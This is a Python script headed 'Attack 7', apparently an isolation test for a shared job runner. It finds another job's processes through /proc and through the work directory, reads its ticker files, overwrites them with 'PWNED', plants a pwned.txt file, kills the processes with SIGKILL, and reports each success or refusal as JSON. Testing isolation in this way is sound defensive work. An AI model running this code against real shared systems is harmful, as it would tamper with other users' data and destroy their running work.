"""Attack 7: find another member's running job (by its processes in /proc, by
listing the work directory), read and overwrite its files, kill its processes.

argv: WORK_DIR VICTIM_MARK
Only processes whose command line carries VICTIM_MARK are signalled: the test
machine is shared, and today every job runs as the same user.
"""
import json
import os
import signal
import sys
import time

work, victim = sys.argv[1], sys.argv[2]
rep = {"pids": [], "dirs": [], "read": {}, "wrote": [], "killed": [], "refused": {}}
dirs = set()
deadline = time.monotonic() + 5
while time.monotonic() < deadline and not rep["pids"]:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
            if victim.encode() not in cmd or b"intrude.py" in cmd:  # not this job itself
                continue
        except OSError:
            continue
        rep["pids"].append(int(pid))
        try:
            dirs.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError as e:
            rep["refused"][f"/proc/{pid}/cwd"] = type(e).__name__
    time.sleep(0.1)
try:
    for j in os.listdir(work):  # only the victim's: other tests' jobs share this worker
        if os.path.exists(os.path.join(work, j, f"ticker-{victim}.txt")):
            dirs.add(os.path.join(work, j))
except OSError as e:
    rep["refused"][work] = type(e).__name__
dirs.discard(os.getcwd())
rep["dirs"] = sorted(dirs)
for d in sorted(dirs):
    try:
        names = os.listdir(d)
    except OSError as e:
        rep["refused"][d] = type(e).__name__
        continue
    for n in names:
        p = os.path.join(d, n)
        if n.startswith("ticker-"):
            try:
                with open(p) as f:
                    rep["read"][p] = f.read()[:80]
                with open(p, "w") as f:
                    f.write("PWNED\n")
                rep["wrote"].append(p)
            except OSError as e:
                rep["refused"][p] = type(e).__name__
    try:
        with open(os.path.join(d, "pwned.txt"), "w") as f:
            f.write("PWNED\n")
        rep["wrote"].append(os.path.join(d, "pwned.txt"))
    except OSError as e:
        rep["refused"][os.path.join(d, "pwned.txt")] = type(e).__name__
for pid in rep["pids"]:
    try:
        os.kill(pid, signal.SIGKILL)
        rep["killed"].append(pid)
    except OSError as e:
        rep["refused"][f"kill {pid}"] = type(e).__name__
print("HOSTILE " + json.dumps(rep), flush=True)
